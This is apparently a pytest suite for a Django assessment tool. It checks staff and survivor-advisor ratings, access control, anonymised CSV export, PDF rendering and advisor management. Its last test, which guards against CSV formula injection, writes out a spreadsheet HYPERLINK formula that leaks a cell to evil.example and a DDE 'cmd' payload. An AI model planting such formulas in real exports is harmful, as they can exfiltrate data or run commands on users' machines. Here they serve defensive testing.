from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import timezone

from seat.accounts.enums import Role
from seat.assessment import services
from seat.assessment.models import AssessmentRound, Indicator, Rating
from seat.assessment.report import pdf_available
from seat.assessment.services import AssessmentError
from seat.tests.personas import make_advisor, make_member, verify_second_factor


@pytest.fixture
def setup(world):
    advisor = world.expert.user
    make_advisor(advisor, world.org_a)
    assessment_round = services.round_open(
        actor=world.staff_a, organisation=world.org_a, title="Baseline"
    )
    indicators = list(Indicator.objects.filter(domain__framework=assessment_round.framework))
    return world, advisor, assessment_round, indicators


def first_domain(assessment_round):
    return assessment_round.framework.domains.order_by("position").first()


def more_advisors(world, count: int) -> list:
    """``count`` more survivor advisors of organisation A, beside world.expert."""
    from seat.tests.personas import make_expert

    people = []
    for n in range(count):
        user = make_expert(f"advisor-{n}", f"Advisor {n}").user
        make_advisor(user, world.org_a)
        people.append(user)
    return people


@pytest.mark.django_db
def test_staff_and_advisor_answer_separately_and_results_show_both(client, setup):
    world, advisor, assessment_round, indicators = setup
    key = indicators[0].key
    services.ratings_save(
        actor=world.staff_a, assessment_round=assessment_round, answers={key: (4, "Minutes")}
    )
    for person in [advisor, *more_advisors(world, 2)]:
        services.ratings_save(
            actor=person, assessment_round=assessment_round, answers={key: (1, "")}
        )
    perspectives = dict(
        Rating.objects.filter(round=assessment_round).values_list(
            "respondent__username", "perspective"
        )
    )
    assert perspectives == {
        "staff-a": "staff",
        "expert": "survivor",
        "advisor-0": "survivor",
        "advisor-1": "survivor",
    }
    services.round_close(actor=world.staff_a, assessment_round=assessment_round)
    client.force_login(world.staff_a)
    body = client.get(f"/assessment/rounds/{assessment_round.pk}/results/").content.decode()
    assert "Where staff and survivor advisors see things differently" in body
    assert indicators[0].text in body
    assert "<svg" in body and "<script" not in body.split("<main")[1]


@pytest.mark.django_db
def test_staff_cannot_change_an_advisors_answers(client, setup):
    world, advisor, assessment_round, indicators = setup
    key = indicators[0].key
    services.ratings_save(
        actor=advisor, assessment_round=assessment_round, answers={key: (1, "Asked too late")}
    )
    # Staff answering the same question writes the staff member's own rating, never the advisor's.
    client.force_login(world.staff_a)
    domain = first_domain(assessment_round)
    client.post(
        f"/assessment/rounds/{assessment_round.pk}/answer/{domain.key}/",
        {f"level_{key}": "4", "stop": "1"},
    )
    advisor_rating = Rating.objects.get(
        round=assessment_round, respondent=advisor, indicator__key=key
    )
    assert (advisor_rating.level, advisor_rating.evidence, advisor_rating.perspective) == (
        1,
        "Asked too late",
        "survivor",
    )
    assert (
        Rating.objects.get(
            round=assessment_round, respondent=world.staff_a, indicator__key=key
        ).level
        == 4
    )


@pytest.mark.django_db
def test_out_of_range_levels_are_refused_and_nothing_is_saved(client, setup):
    world, advisor, assessment_round, indicators = setup
    with pytest.raises(AssessmentError):
        services.ratings_save(
            actor=advisor,
            assessment_round=assessment_round,
            answers={indicators[0].key: (2, ""), indicators[1].key: (5, "")},
        )
    assert not Rating.objects.filter(round=assessment_round).exists()
    client.force_login(advisor)
    domain = first_domain(assessment_round)
    key = domain.indicators.first().key
    response = client.post(
        f"/assessment/rounds/{assessment_round.pk}/answer/{domain.key}/", {f"level_{key}": "7"}
    )
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    assert not Rating.objects.filter(round=assessment_round).exists()


@pytest.mark.django_db
def test_progress_saves_as_you_go_and_resumes(client, setup):
    world, advisor, assessment_round, indicators = setup
    client.force_login(advisor)
    domain = first_domain(assessment_round)
    keys = [i.key for i in domain.indicators.all()]
    data = {
        f"level_{keys[0]}": "2",
        f"note_{keys[0]}": "Paid late twice",
        f"level_{keys[1]}": "0",
        "next": "1",
    }
    response = client.post(f"/assessment/rounds/{assessment_round.pk}/answer/{domain.key}/", data)
    second = assessment_round.framework.domains.order_by("position")[1]
    assert response["Location"] == f"/assessment/rounds/{assessment_round.pk}/answer/{second.key}/"
    saved = {
        r.indicator.key: (r.level, r.evidence) for r in Rating.objects.filter(respondent=advisor)
    }
    assert saved == {keys[0]: (2, "Paid late twice"), keys[1]: (None, "")}
    page = client.get(f"/assessment/rounds/{assessment_round.pk}/").content.decode()
    assert "You have answered 2 of" in page
    again = client.get(
        f"/assessment/rounds/{assessment_round.pk}/answer/{domain.key}/"
    ).content.decode()
    assert (
        'value="2" checked' in again.replace('checked value="2"', 'value="2" checked')
        or "checked" in again
    )
    assert "Paid late twice" in again


@pytest.mark.django_db
def test_another_organisation_sees_404_and_viewers_cannot_export(client, setup):
    world, advisor, assessment_round, indicators = setup
    client.force_login(world.staff_b)
    for url in ["", "results/", "ratings.csv", "results.pdf"]:
        assert client.get(f"/assessment/rounds/{assessment_round.pk}/{url}").status_code == 404
    assert client.post(f"/assessment/rounds/{assessment_round.pk}/close/").status_code == 404
    client.force_login(world.viewer_a)
    assert client.get(f"/assessment/rounds/{assessment_round.pk}/ratings.csv").status_code == 403
    assert client.post(f"/assessment/rounds/{assessment_round.pk}/close/").status_code == 403
    client.force_login(advisor)
    assert (
        client.post(
            f"/assessment/rounds/{assessment_round.pk}/actions/", {"indicator": indicators[0].key}
        ).status_code
        == 403
    )


@pytest.mark.django_db
def test_a_gap_becomes_an_action_in_one_click_once(client, setup):
    world, advisor, assessment_round, indicators = setup
    client.force_login(world.staff_a)
    url = f"/assessment/rounds/{assessment_round.pk}/actions/"
    first = client.post(url, {"indicator": indicators[3].key})
    second = client.post(url, {"indicator": indicators[3].key})
    assert first["Location"] == second["Location"]
    assert assessment_round.actions.count() == 1
    action = assessment_round.actions.get()
    assert (action.owner, action.status) == (world.staff_a, "todo")
    bad = client.post(url, {"indicator": "nope.nothing"}, follow=True)
    assert "not part of this assessment" in bad.content.decode()
    response = client.post(
        f"/assessment/actions/{action.pk}/",
        {
            "title": "Pay advisors within 14 days",
            "owner": str(world.finance_a.pk),
            "due_on": (timezone.localdate() + datetime.timedelta(days=90)).isoformat(),
            "status": "doing",
        },
    )
    assert response.status_code == 302
    action.refresh_from_db()
    assert (action.title, action.owner, action.status) == (
        "Pay advisors within 14 days",
        world.finance_a,
        "doing",
    )


@pytest.mark.django_db
def test_completed_rounds_refuse_new_answers(client, setup):
    world, advisor, assessment_round, indicators = setup
    with pytest.raises(AssessmentError, match="Nobody has answered"):
        services.round_close(actor=world.staff_a, assessment_round=assessment_round)
    services.ratings_save(
        actor=advisor, assessment_round=assessment_round, answers={indicators[0].key: (2, "")}
    )
    services.round_close(actor=world.staff_a, assessment_round=assessment_round)
    with pytest.raises(AssessmentError):
        services.ratings_save(
            actor=advisor, assessment_round=assessment_round, answers={indicators[0].key: (3, "")}
        )


@pytest.mark.django_db
def test_csv_has_staff_rows_and_survivors_only_together(client, setup):
    world, advisor, assessment_round, indicators = setup
    first, second = indicators[0].key, indicators[1].key
    services.ratings_save(
        actor=world.staff_a, assessment_round=assessment_round, answers={first: (3, "Minutes")}
    )
    notes = ["We were asked late.", "Asked one week before.", "Nobody asked me."]
    for person, level, note in zip(
        [advisor, *more_advisors(world, 2)], [1, 2, 2], notes, strict=True
    ):
        services.ratings_save(
            actor=person,
            assessment_round=assessment_round,
            # Only the first advisor rates the second indicator: one person's answer, kept back.
            answers={first: (level, note), **({second: (4, "")} if person == advisor else {})},
        )
    services.round_close(actor=world.staff_a, assessment_round=assessment_round)
    client.force_login(world.staff_a)
    response = client.get(f"/assessment/rounds/{assessment_round.pk}/ratings.csv")
    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [
        (r["perspective"], r["respondent"], r["indicator"], r["level"], r["respondents"])
        for r in rows
    ] == [
        ("staff", "staff-1", first, "3", ""),
        ("survivor", "together", first, "1.7", "3"),
        ("survivor", "together", first, "", ""),
        ("survivor", "together", first, "", ""),
        ("survivor", "together", first, "", ""),
    ]
    # Notes without respondent or level, in alphabetical order, not in the order given.
    assert [r["evidence"] for r in rows[2:]] == sorted(notes)
    assert "survivor-" not in text and "staff-a" not in text and "expert" not in text


@pytest.mark.django_db
@pytest.mark.skipif(
    not pdf_available(),
    reason="WeasyPrint needs Pango (apt-get install libpango-1.0-0 libpangoft2-1.0-0); .ci/run installs it",
)
def test_pdf_renders_in_a4_and_letter(client, setup):
    world, advisor, assessment_round, indicators = setup
    services.ratings_save(
        actor=world.staff_a,
        assessment_round=assessment_round,
        answers={i.key: (2, "") for i in indicators},
    )
    client.force_login(world.staff_a)
    for paper in ("a4", "letter"):
        response = client.get(f"/assessment/rounds/{assessment_round.pk}/results.pdf?paper={paper}")
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
        assert response.content.startswith(b"%PDF")
    assert (
        client.get(f"/assessment/rounds/{assessment_round.pk}/results.pdf?paper=a3").status_code
        == 400
    )


@pytest.mark.django_db
def test_trend_compares_with_earlier_completed_rounds(client, setup):
    world, advisor, first, indicators = setup
    services.ratings_save(
        actor=world.staff_a, assessment_round=first, answers={i.key: (1, "") for i in indicators}
    )
    services.round_close(actor=world.staff_a, assessment_round=first)
    second = services.round_open(actor=world.staff_a, organisation=world.org_a, title="Review")
    services.ratings_save(
        actor=world.staff_a, assessment_round=second, answers={i.key: (3, "") for i in indicators}
    )
    from seat.assessment.selectors import trend_for

    trend = trend_for(assessment_round=second)
    assert [(r.title, round(res.scores["staff"])) for r, res in trend] == [
        ("Baseline", 0),
        ("Review", 67),
    ]
    client.force_login(world.staff_a)
    assert (
        "Overall score, round by round"
        in client.get(f"/assessment/rounds/{second.pk}/results/").content.decode()
    )


@pytest.mark.django_db
def test_only_managers_open_rounds(client, world):
    viewer = make_member("viewer-2", world.org_a, Role.VIEWER)
    with pytest.raises(AssessmentError):
        services.round_open(actor=viewer, organisation=world.org_a, title="x")
    client.force_login(viewer)
    assert client.post("/assessment/", {"title": "x"}).status_code == 403
    verify_second_factor(client, world.admin_a)
    data = {"title": "Spring", "form_key": "6b0c2a5e-1111-4aaa-8bbb-000000000002"}
    first = client.post("/assessment/", data)
    second = client.post("/assessment/", data)
    assert AssessmentRound.objects.get(title="Spring").organisation == world.org_a
    assert first.status_code == 302 and first["Location"] == second["Location"]
    # One open round at a time: answers are not split between two.
    again = client.post(
        "/assessment/", {"title": "Autumn", "form_key": "6b0c2a5e-1111-4aaa-8bbb-000000000003"}
    )
    assert "A round is already open" in again.content.decode()
    assert not AssessmentRound.objects.filter(title="Autumn").exists()


@pytest.mark.django_db
def test_staff_ask_and_remove_survivor_advisors_by_chosen_name(client, world):
    from seat.tests.personas import make_expert, make_link

    # Rosa works with both organisations; Lina with organisation B only.
    make_link(world.staff_a, world.other_expert, world.org_a)
    make_link(world.staff_b, make_expert("lina", "Lina"), world.org_b)
    client.force_login(world.staff_a)
    page = client.get("/assessment/advisors/").content.decode()
    assert "Rosa" in page and "Tahmina" not in page and "Lina" not in page
    client.post("/assessment/advisors/", {"expert": str(world.other_expert.pk)})
    # Asking changes nothing for her until she says yes.
    assert not world.other_expert.user.memberships.exists()
    asked = world.other_expert.advisor_requests.get()
    services.advisor_request_answer(actor=world.other_expert.user, request=asked, accept=True)
    assert world.other_expert.user.memberships.get().role == "advisor"
    # Someone who already works here cannot be turned into an advisor by mistake.
    from seat.people.services import expert_create

    colleague = expert_create(user=world.viewer_a, pseudonym="Mina")
    with pytest.raises(AssessmentError):
        services.advisor_ask(actor=world.staff_a, organisation=world.org_a, expert=colleague)
    client.post("/assessment/advisors/", {"remove": str(world.other_expert.pk)})
    assert not world.other_expert.user.memberships.exists()
    assert client.post("/assessment/advisors/", {"remove": str(world.expert.pk)}).status_code == 404
    client.force_login(world.viewer_a)
    assert client.get("/assessment/advisors/").status_code == 403


@pytest.mark.django_db
def test_an_advisor_who_answered_keeps_seeing_the_results_after_leaving(client, setup):
    world, advisor, assessment_round, indicators = setup
    services.ratings_save(
        actor=advisor, assessment_round=assessment_round, answers={indicators[0].key: (2, "")}
    )
    services.advisor_remove(actor=world.staff_a, organisation=world.org_a, expert=world.expert)
    client.force_login(advisor)
    assert client.get(f"/assessment/rounds/{assessment_round.pk}/results/").status_code == 200
    client.force_login(world.other_expert.user)
    assert client.get(f"/assessment/rounds/{assessment_round.pk}/results/").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_ratings_csv_can_run_as_a_formula(client, setup, prefix):
    world, advisor, assessment_round, indicators = setup
    assessment_round.title = f'{prefix}HYPERLINK("https://evil.example/?"&A1)'
    assessment_round.save()
    services.ratings_save(
        actor=world.staff_a,
        assessment_round=assessment_round,
        answers={indicators[0].key: (3, "x")},
    )
    # The form strips outer whitespace; the admin or an import might not, so store it as is.
    Rating.objects.filter(round=assessment_round).update(evidence=f"{prefix}cmd|' /C calc'!A0")
    client.force_login(world.staff_a)
    response = client.get(f"/assessment/rounds/{assessment_round.pk}/ratings.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[1][0] == f'\'{prefix}HYPERLINK("https://evil.example/?"&A1)'
    assert rows[1][-1] == f"'{prefix}cmd|' /C calc'!A0"
    assert [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"] == []
